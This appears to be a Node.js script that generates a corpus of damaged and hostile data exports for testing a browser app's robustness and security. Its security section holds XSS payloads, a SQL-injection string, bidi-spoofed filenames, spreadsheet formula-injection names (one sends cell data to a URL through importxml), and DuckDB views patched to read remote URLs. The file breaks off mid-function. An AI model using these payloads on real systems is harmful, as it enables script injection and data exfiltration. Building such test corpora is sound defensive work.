// The bad-input corpus: broken, odd and hostile exports, generated (never committed as binaries).
//   node scripts/bad-inputs.mjs [--out data/bad-inputs]
// Writes one folder per case plus <out>/manifest.json: for each case the files a person would open
// and what the app must answer, worked out by construction here (docs/ROBUSTNESS.md lists them).
// Native DuckDB (@duckdb/node-api) writes every Parquet, CSV and .duckdb file; damage (truncation, a
// patched header) is applied to its valid output afterwards.
import { DuckDBInstance } from '@duckdb/node-api';
import { mkdirSync, readFileSync, rmSync, writeFileSync, existsSync } from 'node:fs';
import { join, resolve } from 'node:path';

/** Bump when a case changes, so a stale corpus is rebuilt. */
export const CORPUS_VERSION = 6;

const DAY = 86_400_000;
/** Two instants every case uses as valid times: the oldest and newest modified time by construction. */
export const T_OLD = Date.UTC(2020, 0, 15);
export const T_NEW = Date.UTC(2023, 5, 30, 12);

/** A SQL literal for a JS value (strings are quoted, null is NULL). */
function lit(v) {
	if (v === null || v === undefined) return 'NULL';
	if (typeof v === 'number' || typeof v === 'bigint') return String(v);
	return `'${String(v).replaceAll("'", "''")}'`;
}

/** CREATE TABLE name AS VALUES ...; `types` casts columns whose literals alone would not say it. */
function tableSql(name, columns, rows, types = {}) {
	const values = rows.map((r) => `(${r.map(lit).join(', ')})`).join(',\n');
	const select = columns.map((c) => (types[c] ? `CAST(${JSON.stringify(c)} AS ${types[c]}) AS ${JSON.stringify(c)}` : JSON.stringify(c))).join(', ');
	return `CREATE OR REPLACE TABLE ${JSON.stringify(name)} AS SELECT ${select} FROM (VALUES ${values}) AS t(${columns.map((c) => JSON.stringify(c)).join(', ')})`;
}

const OBJECT_COLS = ['objectId', 'parentId', 'classId', 'name', 'extension', 'primarySize', 'createdAt'];
const INSTANCE_COLS = ['instanceId', 'objectId', 'size', 'createTime', 'modifyTime', 'accessTime', 'deletedAt'];
const OBJECT_TYPES = { primarySize: 'BIGINT', createdAt: 'BIGINT' };
const INSTANCE_TYPES = { instanceId: 'BIGINT', size: 'BIGINT', createTime: 'BIGINT', modifyTime: 'BIGINT', accessTime: 'BIGINT', deletedAt: 'BIGINT' };

/** `n` plain files o1..on in two folders, sizes 1..n × 100, modified alternately T_OLD and T_NEW (ms). */
function plainExport(n) {
	const objects = [];
	const instances = [];
	for (let i = 1; i <= n; i++) {
		objects.push([`o${i}`, i % 2 ? 'p1' : 'p2', 'idxobject', `file${i}.txt`, 'txt', i * 100, T_OLD]);
		instances.push([i, `o${i}`, i * 100, Math.floor(T_OLD / 1000), i % 2 ? T_OLD : T_NEW, T_NEW, null]);
	}
	const parentPaths = [
		['p1', 'File System/D:/data/a/'],
		['p2', 'File System/D:/data/b/']
	];
	return { objects, instances, parentPaths };
}

async function writeTables(conn, tables) {
	for (const [name, sql] of Object.entries(tables)) await conn.run(sql);
}

async function copy(conn, table, file, format) {
	const options = format === 'parquet' ? 'FORMAT parquet' : "FORMAT csv, HEADER true, QUOTE '\"', ESCAPE '\"'";
	await conn.run(`COPY ${JSON.stringify(table)} TO ${lit(file)} (${options})`);
}

/** The standard three tables of a plain export, as SQL. */
function standardTables({ objects, instances, parentPaths }) {
	const out = { objects: tableSql('objects', OBJECT_COLS, objects, OBJECT_TYPES) };
	if (instances) out.instances = tableSql('instances', INSTANCE_COLS, instances, INSTANCE_TYPES);
	if (parentPaths) out.parentPaths = tableSql('parentPaths', ['parentId', 'parentPath'], parentPaths);
	return out;
}

function truncate(file, fraction) {
	const bytes = readFileSync(file);
	writeFileSync(file, bytes.subarray(0, Math.floor(bytes.length * fraction)));
}

/**
 * Every case: `files` relative to the case folder (or `folder` to open with the folder picker), and
 * `expect` either `{ error: <regex source> }` or `{ kpis, note? }` (a regex the notes must match).
 */
export async function generateBadInputs(out = 'data/bad-inputs') {
	const root = resolve(out);
	const marker = join(root, 'manifest.json');
	if (existsSync(marker)) {
		try {
			if (JSON.parse(readFileSync(marker, 'utf8')).version === CORPUS_VERSION) return JSON.parse(readFileSync(marker, 'utf8'));
		} catch {
			/* rebuild */
		}
	}
	rmSync(root, { recursive: true, force: true });
	mkdirSync(root, { recursive: true });
	const db = await DuckDBInstance.create(':memory:');
	const conn = await db.connect();
	const cases = [];
	const dir = (name) => {
		const d = join(root, name);
		mkdirSync(d, { recursive: true });
		return d;
	};
	/** Write `tables` (name → CREATE sql) as one file per table in `format` under case `name`. */
	const exportCase = async (name, tables, format = 'parquet') => {
		const d = dir(name);
		await writeTables(conn, tables);
		const files = [];
		for (const table of Object.keys(tables)) {
			const file = `${table}.${format}`;
			await copy(conn, table, join(d, file), format);
			files.push(file);
		}
		for (const table of Object.keys(tables)) await conn.run(`DROP TABLE ${JSON.stringify(table)}`);
		return files;
	};
	/** Write `tables` into one .duckdb file at the given storage version. */
	const duckdbCase = async (name, tables, storage = 'v1.0.0') => {
		const file = join(dir(name), 'export.duckdb');
		await conn.run(`ATTACH ${lit(file)} AS x (STORAGE_VERSION ${lit(storage)})`);
		await conn.run('USE x');
		await writeTables(conn, tables);
		await conn.run('USE memory');
		await conn.run('DETACH x');
		return file;
	};

	// A small valid export: what every error case opens next to prove the app is still usable.
	const valid = plainExport(10);
	cases.push({ name: 'valid', files: await exportCase('valid', standardTables(valid)), expect: { kpis: { files: 10, bytes: 5500, folders: 2 } } });

	// Truncated Parquet: a real objects.parquet (several row groups) cut to 60 %.
	{
		const d = dir('truncated-parquet');
		await conn.run(`COPY (SELECT 'o' || i AS objectId, 'p1' AS parentId, 'idxobject' AS classId, 'f' || i || '.txt' AS name, i AS primarySize FROM range(20000) t(i))
			TO ${lit(join(d, 'objects.parquet'))} (FORMAT parquet, ROW_GROUP_SIZE 2000)`);
		truncate(join(d, 'objects.parquet'), 0.6);
		cases.push({ name: 'truncated-parquet', files: ['objects.parquet'], expect: { error: 'objects\\.parquet (looks truncated|is not a Parquet file)' } });
	}

	// Truncated .duckdb: a valid database holding enough rows to span many blocks, cut in half.
	{
		const big = {
			objects: `CREATE OR REPLACE TABLE objects AS SELECT 'o' || i AS objectId, 'p1' AS parentId, 'idxobject' AS classId, 'f' || i || '.txt' AS name, i AS primarySize FROM range(200000) t(i)`
		};
		const file = await duckdbCase('truncated-duckdb', big);
		truncate(file, 0.5);
		cases.push({ name: 'truncated-duckdb', files: ['export.duckdb'], expect: { error: 'export\\.duckdb (could not be opened as a DuckDB database|looks truncated or damaged)' } });
	}

	// Wrong schema 1: no size column anywhere (objects without primarySize, instances without size).
	{
		const { objects, instances, parentPaths } = plainExport(6);
		const tables = {
			objects: tableSql('objects', ['objectId', 'parentId', 'classId', 'name'], objects.map((r) => r.slice(0, 4))),
			instances: tableSql('instances', ['instanceId', 'objectId', 'modifyTime'], instances.map((r) => [r[0], r[1], r[4]]), { instanceId: 'BIGINT', modifyTime: 'BIGINT' }),
			parentPaths: tableSql('parentPaths', ['parentId', 'parentPath'], parentPaths)
		};
		cases.push({ name: 'no-size-column', files: await exportCase('no-size-column', tables), expect: { kpis: { files: 6, bytes: 0, folders: 2, oldestModified: T_OLD, newestModified: T_NEW }, note: '6 files have no known size' } });
	}

	// Wrong schema 2: size as text, some of it not a number (→ unknown size).
	{
		const { objects, instances, parentPaths } = plainExport(5);
		const sizes = ['100', ' 250', 'big', '', '1e3'];
		// TRY_CAST(VARCHAR AS BIGINT): '100' → 100, ' 250' → 250 (spaces are trimmed), '1e3' → 1000; 'big' and '' → NULL.
		const inst = instances.map((r, i) => [r[0], r[1], sizes[i], r[4]]);
		const tables = {
			objects: tableSql('objects', ['objectId', 'parentId', 'classId', 'name'], objects.map((r) => r.slice(0, 4))),
			instances: tableSql('instances', ['instanceId', 'objectId', 'size', 'modifyTime'], inst, { instanceId: 'BIGINT', size: 'VARCHAR', modifyTime: 'BIGINT' }),
			parentPaths: tableSql('parentPaths', ['parentId', 'parentPath'], parentPaths)
		};
		cases.push({ name: 'size-as-text', files: await exportCase('size-as-text', tables), expect: { kpis: { files: 5, bytes: 1350 }, note: '2 files have no known size' } });
	}

	// Wrong schema 3: timestamps as strings, one of them junk text, one before 1980.
	{
		const { objects, parentPaths } = plainExport(4);
		const iso = (ms) => new Date(ms).toISOString().replace('T', ' ').replace('Z', '');
		const times = [iso(T_OLD), iso(T_NEW), 'last Tuesday', '1970-01-02 00:00:00'];
		const inst = objects.map((o, i) => [i + 1, o[0], 10, times[i]]);
		const tables = {
			objects: tableSql('objects', ['objectId', 'parentId', 'classId', 'name'], objects.map((r) => r.slice(0, 4))),
			instances: tableSql('instances', ['instanceId', 'objectId', 'size', 'modifyTime'], inst, { instanceId: 'BIGINT', size: 'BIGINT', modifyTime: 'VARCHAR' }),
			parentPaths: tableSql('parentPaths', ['parentId', 'parentPath'], parentPaths)
		};
		cases.push({ name: 'times-as-strings', files: await exportCase('times-as-strings', tables), expect: { kpis: { files: 4, bytes: 40, oldestModified: T_OLD, newestModified: T_NEW }, note: '2 files have no valid modified time' } });
	}

	// objects without instances: sizes from primarySize, times unknown, and it says so.
	{
		const { objects, parentPaths } = plainExport(8);
		cases.push({
			name: 'objects-without-instances',
			files: await exportCase('objects-without-instances', standardTables({ objects, parentPaths })),
			expect: { kpis: { files: 8, bytes: 3600, folders: 2 }, note: 'no instances table' }
		});
	}

	// Duplicate objectIds: o1 three times, o2 twice (the newest row by createdAt is kept), 5 distinct files.
	{
		const { instances, parentPaths } = plainExport(5);
		const objects = [
			['o1', 'p1', 'idxobject', 'old-name.doc', 'doc', 1, T_OLD],
			['o1', 'p1', 'idxobject', 'one.txt', 'txt', 100, T_NEW],
			['o1', 'p1', 'idxobject', 'older.doc', 'doc', 1, T_OLD - DAY],
			['o2', 'p2', 'idxobject', 'two.pdf', 'pdf', 200, T_NEW],
			['o2', 'p2', 'idxobject', 'two-old.doc', 'doc', 2, T_OLD],
			['o3', 'p1', 'idxobject', 'three.txt', 'txt', 300, T_OLD],
			['o4', 'p2', 'idxobject', 'four.txt', 'txt', 400, T_OLD],
			['o5', 'p1', 'idxobject', 'five.txt', 'txt', 500, T_OLD]
		];
		// Sizes come from instances (o1..o5: 100..500): 1,500 bytes; extensions txt and pdf only (the old rows' doc is dropped).
		cases.push({
			name: 'duplicate-objectids',
			files: await exportCase('duplicate-objectids', standardTables({ objects, instances, parentPaths })),
			expect: { kpis: { files: 5, bytes: 1500, extensions: 2 }, note: '2 objectIds appear more than once' }
		});
	}

	// Negative and NULL sizes (instance and primarySize both): 3 of 6 files have no known size.
	{
		const { objects, instances, parentPaths } = plainExport(6);
		objects[0][5] = -1;
		instances[0][2] = -5; // negative instance size → falls back to primarySize, itself negative → unknown
		objects[1][5] = null;
		instances[1][2] = null; // both NULL → unknown
		instances[2][2] = -300; // negative instance size, primarySize 300 → coalesce takes -300 first → unknown
		// Known: o4 400 + o5 500 + o6 600.
		cases.push({ name: 'negative-null-sizes', files: await exportCase('negative-null-sizes', standardTables({ objects, instances, parentPaths })), expect: { kpis: { files: 6, bytes: 1500 }, note: '3 files have no known size' } });
	}

	// Times in seconds, milliseconds, microseconds, each with junk (0, negative, 1975, far future).
	for (const [unit, scale] of [
		['seconds', 1 / 1000],
		['milliseconds', 1],
		['microseconds', 1000]
	]) {
		const { objects, instances, parentPaths } = plainExport(8);
		const future = Date.now() + 3 * 365 * DAY;
		const good = [T_OLD, T_NEW, T_OLD + 30 * DAY, T_NEW - 30 * DAY];
		const junk = [0, -1000, Date.UTC(1975, 0, 1), future];
		const times = [...good, ...junk].map((t) => Math.round(t * scale));
		instances.forEach((r, i) => (r[4] = times[i]));
		cases.push({
			name: `times-in-${unit}`,
			files: await exportCase(`times-in-${unit}`, standardTables({ objects, instances, parentPaths })),
			expect: { kpis: { files: 8, oldestModified: T_OLD, newestModified: T_NEW }, note: '4 files have no valid modified time' }
		});
	}

	// A CSV from a spreadsheet: BOM, `;` separators, a quoted newline in a name, a ragged row.
	{
		const d = dir('excel-csv');
		const objects =
			'\ufeffobjectId;parentId;classId;name;primarySize\r\n' +
			'o1;p1;idxobject;"plain.txt";100\r\n' +
			'o2;p1;idxobject;"two\r\nlines.txt";200\r\n' +
			'o3;p2;idxobject;"semi;colon.txt";300\r\n' +
			'o4;p2;idxobject;ragged.txt;400;extra\r\n' +
			'o5;p2;idxobject;last.txt;500\r\n';
		writeFileSync(join(d, 'objects.csv'), objects);
		writeFileSync(join(d, 'parentPaths.csv'), '\ufeffparentId;parentPath\r\np1;File System/D:/a/\r\np2;File System/D:/b/\r\n');
		cases.push({ name: 'excel-csv', files: ['objects.csv', 'parentPaths.csv'], expect: { kpis: { files: 5, bytes: 1500, folders: 2 }, note: 'objects\\.csv is not strictly valid CSV' } });
	}

	// Two files claiming the same table, in two formats: refused, naming both formats.
	{
		const d = 'same-table-two-formats';
		const tables = standardTables({ objects: plainExport(3).objects });
		const files = await exportCase(d, tables, 'parquet');
		files.push(...(await exportCase(d, tables, 'csv')));
		cases.push({ name: d, files, expect: { error: 'Table objects is given both as (parquet and csv|csv and parquet) files' } });
	}

	// Two files claiming the same table, same format, in two sub-folders (a re-export next to the
	// first): read as parts of one table; the objects both hold are counted once.
	{
		const d = dir('same-table-two-folders');
		const { objects, instances, parentPaths } = plainExport(6);
		await writeTables(conn, standardTables({ objects: objects.slice(0, 4), instances, parentPaths }));
		mkdirSync(join(d, 'export', 'run1'), { recursive: true });
		mkdirSync(join(d, 'export', 'run2'), { recursive: true });
		await copy(conn, 'objects', join(d, 'export', 'run1', 'objects.csv'), 'csv');
		await copy(conn, 'instances', join(d, 'export', 'instances.csv'), 'csv');
		await copy(conn, 'parentPaths', join(d, 'export', 'parentPaths.csv'), 'csv');
		await writeTables(conn, { objects: tableSql('objects', OBJECT_COLS, objects.slice(2), OBJECT_TYPES) });
		await copy(conn, 'objects', join(d, 'export', 'run2', 'objects.csv'), 'csv');
		// run1 holds o1..o4, run2 o3..o6: six files, o3 and o4 twice.
		cases.push({ name: 'same-table-two-folders', folder: 'export', expect: { kpis: { files: 6, bytes: 2100, folders: 2 }, note: '2 objectIds appear more than once' } });
	}

	// A .duckdb export plus a Parquet file for a table it already holds: the database wins, and the page says so.
	{
		const d = 'duckdb-and-parquet';
		await duckdbCase(d, standardTables(plainExport(4)));
		const files = ['export.duckdb', ...(await exportCase(d, { objects: tableSql('objects', OBJECT_COLS, plainExport(9).objects, OBJECT_TYPES) }))];
		cases.push({ name: d, files, expect: { kpis: { files: 4, bytes: 1000 }, note: 'objects\\.parquet was not used: export\\.duckdb already holds table objects' } });
	}

	// Storage versions. Native DuckDB 1.5 writes any storage version from v0.10.0 (storage format 64)
	// on; the browser engine (DuckDB 1.4) reads 64..67. Older files (format < 64, DuckDB ≤ 0.9)
	// cannot be written by 1.5: the ancient case patches the version number in a valid file's header,
	// which is exactly where DuckDB looks first.
	{
		await duckdbCase('storage-v0.10', standardTables(plainExport(7)), 'v0.10.0');
		cases.push({ name: 'storage-v0.10', files: ['export.duckdb'], expect: { kpis: { files: 7, bytes: 2800, folders: 2 } } });
		await duckdbCase('storage-newer', standardTables(plainExport(7)), 'v1.5.0');
		cases.push({ name: 'storage-newer', files: ['export.duckdb'], expect: { error: 'export\\.duckdb was written by a DuckDB version this app cannot read' } });
		const file = await duckdbCase('storage-ancient', standardTables(plainExport(7)), 'v0.10.0');
		const bytes = readFileSync(file);
		// Main header: 8-byte checksum, "DUCK", then the storage format number (64 = v0.10..v1.1); 39 was DuckDB 0.6.
		if (bytes.subarray(8, 12).toString('latin1') !== 'DUCK' || bytes.readBigUInt64LE(12) !== 64n) throw new Error('unexpected .duckdb header layout');
		// The header block is checksummed: XOR of each 8-byte word × 0xbf58476d1ce4e5b9 over the bytes
		// after the checksum itself, so changing one word updates the sum by two products.
		const word = (b) => b.readBigUInt64LE(8);
		const mix = (w) => (w * 0xbf58476d1ce4e5b9n) & 0xffffffffffffffffn;
		const before = word(bytes);
		bytes.writeBigUInt64LE(39n, 12);
		bytes.writeBigUInt64LE(bytes.readBigUInt64LE(0) ^ mix(before) ^ mix(word(bytes)), 0);
		writeFileSync(file, bytes);
		cases.push({ name: 'storage-ancient', files: ['export.duckdb'], expect: { error: 'export\\.duckdb was written by a DuckDB version this app cannot read' } });
	}

	// Nothing leaves the browser, no formula escapes: the cases of securityCases (its own block below).
	cases.push(...(await securityCases(conn, dir, { exportCase, duckdbCase })));

	const manifest = { version: CORPUS_VERSION, cases, hostile: await hostileExport(conn, dir('hostile')) };
	writeFileSync(marker, JSON.stringify(manifest, null, '\t'));
	return manifest;
}

/** Hostile text: markup, SQL metacharacters, bidi overrides and zero-width characters. */
export const HOSTILE = {
	xss: '<img src=x onerror=window.__xss=1>',
	script: '<script>window.__xss=2</script>',
	sql: "'; drop table files; --",
	bidi: '\u202etxt.exe',
	zeroWidth: 'pdf\u200b\u200d\ufeff'
};

/**
 * An Aparavi export whose names, extensions and folders are hostile text, with a 4,096-character
 * path whose top folder alone is 3,000 characters. Counts per extension and per top folder are
 * tallied here from the rows as written, for the e2e test to compare with what the page shows.
 */
async function hostileExport(conn, d) {
	const long = `${'L'.repeat(1500)}/${'o'.repeat(1499)}/`; // 3,001 characters: the top folder's first two segments...
	const longFolder = `${long}n/`; // ...and a third, so the top folder is long + 'n/'
	const longPath = longFolder + 'g'.repeat(4096 - longFolder.length - 4) + '.txt';
	const folders = {
		p1: `${HOSTILE.xss}/${HOSTILE.sql}/data/deep/`,
		p2: `Shares/${HOSTILE.bidi}\u200b/${HOSTILE.script}/x/`,
		p3: longFolder
	};
	const top = (folder) => folder.match(/^\/?(?:[^/]*(?:\/|$)){1,3}/)[0];
	// [extension as stored, folder, name, how many files]
	const groups = [
		[HOSTILE.xss, 'p1', `${HOSTILE.xss}.html`, 3],
		[HOSTILE.sql, 'p1', `x${HOSTILE.sql}.sql`, 5],
		[HOSTILE.bidi, 'p2', `invoice${HOSTILE.bidi}`, 7],
		[HOSTILE.zeroWidth, 'p2', `report.${HOSTILE.zeroWidth}`, 11],
		['txt', 'p3', longPath.slice(longFolder.length), 2]
	];
	const objects = [];
	const instances = [];
	let id = 0;
	for (const [ext, parent, name, n] of groups) {
		for (let i = 0; i < n; i++) {
			id++;
			objects.push([`o${id}`, parent, 'idxobject', name, ext, id, T_OLD]);
			instances.push([id, `o${id}`, id * 10, Math.floor(T_OLD / 1000), T_NEW, T_NEW, null]);
		}
	}
	const tables = standardTables({ objects, instances, parentPaths: Object.entries(folders) });
	await writeTables(conn, tables);
	const files = [];
	for (const table of Object.keys(tables)) {
		await copy(conn, table, join(d, `${table}.parquet`), 'parquet');
		files.push(`${table}.parquet`);
		await conn.run(`DROP TABLE ${JSON.stringify(table)}`);
	}
	const byExtension = {};
	const byTopFolder = {};
	for (const [ext, parent, , n] of groups) {
		byExtension[ext] = (byExtension[ext] ?? 0) + n;
		byTopFolder[top(folders[parent])] = (byTopFolder[top(folders[parent])] ?? 0) + n;
	}
	if (longPath.length !== 4096) throw new Error(`the long path is ${longPath.length} characters`);
	return { files, total: id, byExtension, byTopFolder, longTopFolder: top(folders.p3), hostile: HOSTILE };
}

/* ============================================================================================== */
/* Security cases: nothing leaves the browser, no formula escapes, no script runs.               */
/* Kept in one block of their own, apart from the rest of the corpus.                            */
/* ============================================================================================== */

/** A host that never resolves (RFC 2606): a request to it is a foreign request, whatever answers. */
export const FOREIGN_HOST = 'example.invalid';

/** Text that would run as a formula in a spreadsheet, and what each export must write instead. */
export const FORMULA_NAMES = [
	['=1+1.txt', "'=1+1.txt"],
	['-0+importxml(concat("http://x/?",a1),"/")', `'-0+importxml(concat("http://x/?",a1),"/")`],
	['+cmd.exe', "'+cmd.exe"],
	['@SUM(A1).xlsx', "'@SUM(A1).xlsx"],
	['\t=tab.txt', "'\t=tab.txt"],
	['\r=cr.txt', "'\r=cr.txt"]
];
/** Names and folders that only look odd: every export writes them exactly as they are. */
export const PLAIN_NAMES = ['.profile', '10-Q.pdf', '2024 budget.xlsx', '<b>bold</b>.html', ';semi.txt'];
export const PLAIN_FOLDERS = ['/srv/data/', '/home/user/.config/', '.hidden/cache/', '2024/reports/q1/'];
/** Extensions with a formula lead: the top-extensions chart's labels. */
export const FORMULA_EXTENSIONS = ['=1+1', '-2+3', '@sum', '+cmd'];

/** Markup in names, extensions and folders that would set window.__pwned if it ever ran. */
export const SCRIPT_TEXT = {
	img: '<img src=x onerror="window.__pwned=1">',
	svg: '<svg onload=window.__pwned=2>',
	script: '"><script>window.__pwned=3</script>',
	link: 'javascript:window.__pwned=4',
	iframe: '<iframe srcdoc="<script>parent.__pwned=5</script>">'
};

/** A minimal valid SQLite 3 database (one table, one leaf page of rows), written byte by byte. */
export function sqliteDatabase(table, columns, rows) {
	const PAGE = 4096;
	const varint = (n) => {
		const bytes = [n & 0x7f];
		for (let v = n >>> 7; v > 0; v >>>= 7) bytes.unshift((v & 0x7f) | 0x80);
		return bytes;
	};
	const record = (values) => {
		const types = [];
		const body = [];
		for (const v of values) {
			if (v === null) types.push(0);
			else if (typeof v === 'number') {
				const b = Buffer.alloc(8);
				b.writeBigInt64BE(BigInt(v));
				types.push(6);
				body.push(...b);
			} else {
				const b = Buffer.from(String(v), 'utf8');
				types.push(b.length * 2 + 13);
				body.push(...b);
			}
		}
		const typeBytes = types.flatMap(varint);
		const headerSize = typeBytes.length + 1 < 128 ? typeBytes.length + 1 : typeBytes.length + 2;
		return [...varint(headerSize), ...typeBytes, ...body];
	};
	// A table b-tree leaf page: cells from the end of the page, their pointers after the page header.
	const leafPage = (records, headerAt) => {
		const page = Buffer.alloc(PAGE);
		let end = PAGE;
		records.forEach((values, i) => {
			const payload = record(values);
			const cell = Buffer.from([...varint(payload.length), ...varint(i + 1), ...payload]);
			end -= cell.length;
			cell.copy(page, end);
			page.writeUInt16BE(end, headerAt + 8 + i * 2);
		});
		page[headerAt] = 0x0d;
		page.writeUInt16BE(records.length, headerAt + 3);
		page.writeUInt16BE(end, headerAt + 5);
		return page;
	};
	const create = `CREATE TABLE ${table}(${columns.map(([n, t]) => `${n} ${t}`).join(', ')})`;
	const first = leafPage([['table', table, table, 2, create]], 100);
	// The 100-byte database header: page size, file format 1, payload fractions, 2 pages, schema format 4, UTF-8.
	first.write('SQLite format 3\0', 0, 'latin1');
	first.writeUInt16BE(PAGE, 16);
	first.set([1, 1, 0, 64, 32, 32], 18);
	first.writeUInt32BE(1, 24);
	first.writeUInt32BE(2, 28);
	first.writeUInt32BE(1, 40);
	first.writeUInt32BE(4, 44);
	first.writeUInt32BE(1, 56);
	first.writeUInt32BE(1, 92);
	first.writeUInt32BE(3040001, 96);
	return Buffer.concat([first, leafPage(rows, 0)]);
}

/**
 * Replace a string in a .duckdb file by another of the same length, keeping its blocks valid: a
 * view over a URL cannot be created by native DuckDB here (binding it would need the httpfs
 * extension and the network), so the view is created over a local file whose path has the URL's
 * length, and the path is swapped for the URL. Blocks follow the 3 header blocks, 256 KiB each,
 * starting with a checksum over the rest: 5381 XOR each 8-byte word × 0xbf58476d1ce4e5b9, so a
 * changed word updates the sum by two products (as the storage-ancient case does for the header).
 */
function patchDuckdbString(file, from, to) {
	if (Buffer.byteLength(from) !== Buffer.byteLength(to)) throw new Error('the swapped strings must have the same length');
	const HEADER = 3 * 4096;
	const BLOCK = 256 * 1024;
	const mix = (w) => (w * 0xbf58476d1ce4e5b9n) & 0xffffffffffffffffn;
	const bytes = readFileSync(file);
	let found = 0;
	for (let at = bytes.indexOf(from); at >= 0; at = bytes.indexOf(from, at + 1)) {
		const block = HEADER + Math.floor((at - HEADER) / BLOCK) * BLOCK;
		const word = (i) => block + 8 + Math.floor((i - block - 8) / 8) * 8;
		const words = [];
		for (let w = word(at); w <= word(at + from.length - 1); w += 8) words.push([w, bytes.readBigUInt64LE(w)]);
		bytes.write(to, at);
		let sum = bytes.readBigUInt64LE(block);
		for (const [w, before] of words) sum ^= mix(before) ^ mix(bytes.readBigUInt64LE(w));
		bytes.writeBigUInt64LE(sum, block);
		found++;
	}
	if (!found) throw new Error(`${from} is not in ${file}`);
	writeFileSync(file, bytes);
}

/**
 * A .duckdb whose `table` is a view over `reader(url)`: created over a local copy of the rows (at a
 * relative path as long as the URL), then pointed at the URL. The other tables are ordinary.
 */
async function remoteViewCase(conn, dir, name, { table, reader, url, tables }) {
	const d = dir(name);
	// A relative path as long as the URL, found through file_search_path while the view is bound.
	const file = `${table}.x`;
	const rel = `${'q'.repeat(url.length - file.length - 1)}/${file}`;
	mkdirSync(join(d, rel, '..'), { recursive: true });
	await writeTables(conn, { [table]: tables[table] });
	await conn.run(`COPY ${JSON.stringify(table)} TO ${lit(join(d, rel))} (${reader === 'read_parquet' ? 'FORMAT parquet' : 'FORMAT csv, HEADER true'})`);
	await conn.run(`DROP TABLE ${JSON.stringify(table)}`);
	const db = join(d, 'export.duckdb');
	await conn.run(`ATTACH ${lit(db)} AS x (STORAGE_VERSION 'v1.0.0')`);
	await conn.run('USE x');
	await writeTables(conn, Object.fromEntries(Object.entries(tables).filter(([t]) => t !== table)));
	await conn.run(`SET file_search_path = ${lit(d)}`);
	await conn.run(`CREATE VIEW ${JSON.stringify(table)} AS SELECT * FROM ${reader}(${lit(rel)})`);
	await conn.run('RESET file_search_path');
	await conn.run('USE memory');
	await conn.run('DETACH x');
	patchDuckdbString(db, rel, url);
	rmSync(join(d, rel, '..'), { recursive: true, force: true });
	return ['export.duckdb'];
}

/**
 * Cases where an export tries to make the engine reach out (a SQLite file, views over URLs, URLs
 * in the data), formula text every export must defuse, and markup that must never run.
 */
async function securityCases(conn, dir, { exportCase }) {
	const cases = [];
	const escape = (s) => s.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');

	// A SQLite database named .db: DuckDB would fetch its sqlite extension from the extension site.
	{
		const d = dir('sqlite-db');
		writeFileSync(join(d, 'export.db'), sqliteDatabase('objects', [['objectId', 'TEXT'], ['name', 'TEXT'], ['primarySize', 'INTEGER']], [['o1', 'a.txt', 100], ['o2', 'b.pdf', 2000]]));
		cases.push({ name: 'sqlite-db', files: ['export.db'], expect: { error: 'export\\.db is a SQLite database' } });
	}

	// A .duckdb whose objects table is a view over a CSV on another host.
	{
		const url = `https://${FOREIGN_HOST}/aparavi/objects.csv`;
		const files = await remoteViewCase(conn, dir, 'remote-view-csv', { table: 'objects', reader: 'read_csv', url, tables: standardTables(plainExport(4)) });
		cases.push({ name: 'remote-view-csv', files, expect: { error: `Table objects in export\\.duckdb is a view that reads ${escape(url)}` } });
	}

	// A .duckdb whose objects are a table but whose instances are a view over remote Parquet.
	{
		const url = `http://${FOREIGN_HOST}/exports/2024/instances.parquet`;
		const files = await remoteViewCase(conn, dir, 'remote-view-parquet', { table: 'instances', reader: 'read_parquet', url, tables: standardTables(plainExport(4)) });
		cases.push({ name: 'remote-view-parquet', files, expect: { error: `Table instances in export\\.duckdb is a view that reads ${escape(url)}` } });
	}

	// URLs as data: names, folders and extensions that are addresses, UNC paths, and Parquet
	// key-value metadata naming a URL. They are text: shown, counted, never fetched.
	{
		const { objects, instances } = plainExport(4);
		objects[0][3] = `https://${FOREIGN_HOST}/a.png`;
		objects[1][3] = `\\\\${FOREIGN_HOST}\\share\\b.doc`;
		objects[2][4] = `//${FOREIGN_HOST}/x`;
		const parentPaths = [
			['p1', `http://${FOREIGN_HOST}/share/`],
			['p2', `\\\\${FOREIGN_HOST}\\c$\\`]
		];
		const d = dir('urls-in-data');
		await writeTables(conn, standardTables({ objects, instances, parentPaths }));
		await conn.run(`COPY objects TO ${lit(join(d, 'objects.parquet'))} (FORMAT parquet, KV_METADATA { source: 'https://${FOREIGN_HOST}/export', schema: 'http://${FOREIGN_HOST}/schema.json' })`);
		await conn.run(`COPY instances TO ${lit(join(d, 'instances.parquet'))} (FORMAT parquet)`);
		await copy(conn, 'parentPaths', join(d, 'parentPaths.csv'), 'csv');
		for (const t of ['objects', 'instances', 'parentPaths']) await conn.run(`DROP TABLE ${JSON.stringify(t)}`);
		cases.push({ name: 'urls-in-data', files: ['objects.parquet', 'instances.parquet', 'parentPaths.csv'], expect: { kpis: { files: 4, bytes: 1000, folders: 2 } } });
	}

	// Formula text in names, extensions and folders; folders starting with `/`, `.` or a digit.
	// Every export must defuse the first and leave the rest alone.
	{
		const folders = [...PLAIN_FOLDERS, '@team/shared/', '-dash/'];
		const parentPaths = folders.map((f, i) => [`p${i}`, f]);
		const names = [...FORMULA_NAMES.map(([n]) => n), ...PLAIN_NAMES];
		const objects = [];
		const instances = [];
		names.forEach((name, i) => {
			const ext = i < FORMULA_EXTENSIONS.length ? FORMULA_EXTENSIONS[i] : 'txt';
			// Distinct sizes, largest first in name order, so every file is among the largest.
			const size = (names.length - i) * 1000;
			objects.push([`o${i + 1}`, `p${i % folders.length}`, 'idxobject', name, ext, size, T_OLD]);
			instances.push([i + 1, `o${i + 1}`, size, Math.floor(T_OLD / 1000), T_NEW, T_NEW, null]);
		});
		const files = await exportCase('formula-cells', standardTables({ objects, instances, parentPaths }));
		const bytes = instances.reduce((n, r) => n + r[2], 0);
		cases.push({
			name: 'formula-cells',
			files,
			expect: { kpis: { files: names.length, bytes, folders: folders.length } },
			formula: { names: FORMULA_NAMES, plainNames: PLAIN_NAMES, plainFolders: PLAIN_FOLDERS, extensions: FORMULA_EXTENSIONS }
		});
	}

	// Markup in names, extensions and folders that sets window.__pwned if it ever runs.
	{
		const texts = Object.values(SCRIPT_TEXT);
		const parentPaths = texts.map((t, i) => [`p${i}`, `/share/${t}/`]);
		const objects = texts.map((t, i) => [`o${i + 1}`, `p${i}`, 'idxobject', `${t}.html`, t, (i + 1) * 10, T_OLD]);
		const instances = texts.map((_, i) => [i + 1, `o${i + 1}`, (i + 1) * 10, Math.floor(T_OLD / 1000), T_NEW, T_NEW, null]);
		const files = await exportCase('script-names', standardTables({ objects, instances, parentPaths }));
